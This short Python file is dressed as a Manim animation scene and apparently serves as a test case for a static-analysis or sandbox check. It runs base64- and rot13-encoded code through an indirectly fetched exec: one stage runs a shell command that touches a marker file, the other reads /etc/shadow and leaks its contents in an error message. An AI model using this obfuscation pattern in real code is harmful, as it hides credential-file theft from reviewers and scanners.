"""exec of base64- and rot13-encoded code (what a static check cannot read) that reads /etc/shadow."""
from manim import *
import base64
import codecs

PWNED = "PWN" + "ED!"

# base64 of: import os; os.system("touch " + MARKER)
STAGE1 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInRvdWNoICIgKyBNQVJLRVIp"
# rot13 of: data = open("/etc/shadow").read()
STAGE2 = 'qngn = bcra("/rgp/funqbj").ernq()'


class ExecEncoded(Scene):
    def construct(self):
        run = getattr(__builtins__, "exec", None) or __builtins__["exec"]
        run(base64.b64decode(STAGE1).decode(), {"MARKER": "/tmp/eigenframe-pwned-@MARK@-35"})
        scope = {}
        run(codecs.decode(STAGE2, "rot13"), scope)
        raise RuntimeError(f"{PWNED} {scope.get('data')}")
